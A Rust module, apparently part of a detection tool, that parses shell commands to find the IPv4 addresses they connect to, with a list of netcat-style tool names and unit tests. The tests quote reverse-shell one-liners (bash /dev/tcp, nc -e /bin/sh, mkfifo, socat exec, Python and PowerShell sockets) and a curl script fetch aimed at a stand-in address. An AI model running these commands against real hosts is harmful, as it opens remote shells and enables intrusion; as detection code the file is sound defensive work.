//! Addresses that a command calls: what it was told to connect to, not what else is written in it.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

/// The longest command that is looked at, in bytes.
const COMMAND_BYTES: usize = 16 << 10;
/// Addresses kept of one command.
const CALLED_KEPT: usize = 4;
/// Tools that are given an address and a port as words.
const TOOLS: &[&[u8]] =
    &[b"nc", b"ncat", b"netcat", b"nc.exe", b"ncat.exe", b"nc64.exe", b"nc.traditional", b"nc.openbsd", b"telnet"];

/// The addresses that a command calls, sorted: by a device of bash (`/dev/tcp/203.0.113.9/443`), in a URL, with a port behind a colon,
/// as two arguments of a call (`"203.0.113.9", 443`), or as words of a tool that connects (`nc 203.0.113.9 443`). Not those that mean this
/// host or all hosts.
pub fn addresses(command: &[u8]) -> Vec<Ipv4Addr> {
    let command = &command[..command.len().min(COMMAND_BYTES)];
    let mut all = BTreeSet::new();
    let mut at = 0;
    while let Some(begin) = command[at..].iter().position(u8::is_ascii_digit).map(|n| at + n) {
        let is_part = |byte: &u8| byte.is_ascii_digit() || *byte == b'.';
        let end = begin + command[begin..].iter().take_while(|byte| is_part(byte)).count();
        let (before, behind) = (&command[..begin], &command[end..]);
        let address = std::str::from_utf8(&command[begin..end]).ok().and_then(|text| text.parse::<Ipv4Addr>().ok());
        all.extend(address.filter(|ip| is_other(*ip) && is_called(before, behind)));
        at = end;
    }
    all.into_iter().take(CALLED_KEPT).collect()
}

/// Whether an address is one host's that need not be this one.
fn is_other(ip: Ipv4Addr) -> bool {
    !(ip.is_unspecified() || ip.is_loopback() || ip.is_broadcast() || ip.is_multicast() || ip.is_link_local())
}

/// Whether what stands around an address says that it is called.
fn is_called(before: &[u8], behind: &[u8]) -> bool {
    let is_device = before.ends_with(b"/dev/tcp/") || before.ends_with(b"/dev/udp/");
    if is_device {
        return behind.first() == Some(&b'/') && is_port(&behind[1..]);
    }
    if before.ends_with(b"://") {
        return true;
    }
    // A part of a name or of a number is no address.
    if before.last().is_some_and(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.')) {
        return false;
    }
    match behind.first() {
        Some(b':') => is_port(&behind[1..]),
        Some(b'"' | b'\'') => {
            let rest = behind[1..].trim_ascii_start();
            rest.first() == Some(&b',') && is_port(rest[1..].trim_ascii_start())
        }
        Some(b' ') => is_port(behind.trim_ascii_start()) && runs_tool(before),
        _ => false,
    }
}

/// Whether a text begins with the number of a port.
fn is_port(text: &[u8]) -> bool {
    let digits = text.iter().take_while(|byte| byte.is_ascii_digit()).count();
    let number =
        text[..digits].iter().fold(0u32, |sum, digit| sum.saturating_mul(10).saturating_add(u32::from(digit - b'0')));
    let goes_on =
        text.get(digits).is_some_and(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-'));
    (1..=65_535).contains(&number) && !goes_on
}

/// Whether the command that an argument is of runs a tool that connects: what stands behind the last of what ends a command.
fn runs_tool(before: &[u8]) -> bool {
    let own = before.rsplit(|byte| matches!(byte, b';' | b'|' | b'&' | b'(' | b'`' | b'\n')).next().unwrap_or_default();
    let words = own.split(u8::is_ascii_whitespace).map(|word| {
        let word = word.trim_ascii();
        let name = word.rsplit(|byte| matches!(byte, b'/' | b'\\' | b'"' | b'\'')).next();
        name.unwrap_or_default()
    });
    words.into_iter().any(|word| TOOLS.iter().any(|tool| word.eq_ignore_ascii_case(tool)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(command: &str) -> Vec<String> {
        addresses(command.as_bytes()).iter().map(ToString::to_string).collect()
    }

    #[test]
    fn what_a_command_connects_to_is_called() {
        for command in [
            "bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
            "exec 5<>/dev/udp/203.0.113.9/53",
            "nc 203.0.113.9 443 -e /bin/sh",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1|/bin/nc -n 203.0.113.9 4444 >/tmp/f",
            "C:\\tools\\nc64.exe 203.0.113.9 443 -e cmd",
            "curl -s http://203.0.113.9/x.sh",
            "wget https://203.0.113.9:8443/x",
            "socat tcp-connect:203.0.113.9:443 exec:sh",
            "python3 -c 'import socket;s=socket.socket();s.connect((\"203.0.113.9\",443))'",
            "New-Object Net.Sockets.TCPClient('203.0.113.9', 443)",
        ] {
            assert_eq!(told(command), ["203.0.113.9"], "{command}");
        }
    }

    #[test]
    fn what_is_only_written_in_a_command_is_not() {
        for command in [
            "",
            "ping 203.0.113.9",
            "echo 203.0.113.9 443",
            "nc -l 443; echo 203.0.113.9 443",
            "pip install x==1.2.3.4",
            "app-203.0.113.9:443",
            "v1.203.0.113.9:443",
            "203.0.113.9:0",
            "203.0.113.9:70000",
            "203.0.113.9:443.7",
            "/dev/tcp/203.0.113.9",
            "/dev/tcp/203.0.113.999/443",
            "nc 127.0.0.1 443",
            "http://0.0.0.0/",
            "nc 203.0.113.9 443x",
        ] {
            assert_eq!(told(command), [""; 0], "{command}");
        }
    }

    #[test]
    fn no_more_are_kept_than_fit() {
        let many: String = (1..90).map(|n| format!("http://203.0.113.{n}/ ")).collect();
        assert_eq!(told(&many).len(), CALLED_KEPT);
    }
}
